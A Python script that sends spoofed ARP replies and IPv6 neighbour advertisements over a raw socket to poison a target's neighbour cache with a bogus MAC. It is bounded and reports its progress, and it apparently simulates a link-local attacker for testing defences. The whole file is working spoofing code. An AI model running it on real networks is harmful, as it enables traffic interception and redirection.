#!/usr/bin/env python3
"""Sends spoofed neighbour messages claiming that CLAIM is at BOGUS_MAC, as
an attacker on the link would.

usage: spoof-neighbour.py arp|nd IFACE TARGET_MAC TARGET CLAIM BOGUS_MAC COUNT INTERVAL_MS

arp: by turns an unsolicited ARP reply unicast to TARGET (TARGET_MAC, an
     IPv4 address), a gratuitous ARP request and a gratuitous ARP reply,
     both broadcast.
nd:  by turns a neighbour advertisement unicast to TARGET (an IPv6
     address) with the solicited and override flags, and an unsolicited
     one with the override flag to all nodes (ff02::1), hop limit 255.

Bounded: COUNT frames, one every INTERVAL_MS milliseconds, then it prints
"sent N" and exits (SIGTERM stops it early, and it still prints).
"""
import signal
import socket
import struct
import sys
import time

ETH_P_ARP = 0x0806
ETH_P_IPV6 = 0x86DD
BROADCAST = b"\xff" * 6


def mac(s):
    return bytes(int(x, 16) for x in s.split(":"))


def arp(dst, src, op, sha, spa, tha, tpa):
    eth = dst + src + struct.pack("!H", ETH_P_ARP)
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + sha + spa + tha + tpa
    # Padded to Ethernet's 60-byte minimum.
    return (eth + body).ljust(60, b"\0")


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def advert(dst_mac, src_mac, src, dst, target, flags, lladdr):
    # Type 136, code 0, checksum, flags (R S O), target, target lladdr.
    icmp = struct.pack("!BBHB3x", 136, 0, 0, flags) + target + b"\x02\x01" + lladdr
    pseudo = src + dst + struct.pack("!I3xB", len(icmp), 58)
    icmp = icmp[:2] + struct.pack("!H", checksum(pseudo + icmp)) + icmp[4:]
    ip = struct.pack("!IHBB", 0x60000000, len(icmp), 58, 255) + src + dst
    return dst_mac + src_mac + struct.pack("!H", ETH_P_IPV6) + ip + icmp


def main():
    kind, iface, target_mac, target, claim, bogus, count, interval = sys.argv[1:9]
    target_mac, bogus = mac(target_mac), mac(bogus)
    count, interval = int(count), int(interval) / 1000.0
    if kind == "arp":
        target, claim = socket.inet_aton(target), socket.inet_aton(claim)
        frames = [
            arp(target_mac, bogus, 2, bogus, claim, target_mac, target),
            arp(BROADCAST, bogus, 1, bogus, claim, b"\0" * 6, claim),
            arp(BROADCAST, bogus, 2, bogus, claim, BROADCAST, claim),
        ]
        proto = ETH_P_ARP
    else:
        target = socket.inet_pton(socket.AF_INET6, target)
        claim = socket.inet_pton(socket.AF_INET6, claim)
        all_nodes = socket.inet_pton(socket.AF_INET6, "ff02::1")
        frames = [
            advert(target_mac, bogus, claim, target, claim, 0x60, bogus),
            advert(b"\x33\x33\0\0\0\x01", bogus, claim, all_nodes, claim, 0x20, bogus),
        ]
        proto = ETH_P_IPV6
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(proto))
    s.bind((iface, 0))
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    sent = 0
    print("ready", flush=True)
    while sent < count and not stop:
        s.send(frames[sent % len(frames)])
        sent += 1
        time.sleep(interval)
    print(f"sent {sent}", flush=True)


if __name__ == "__main__":
    main()
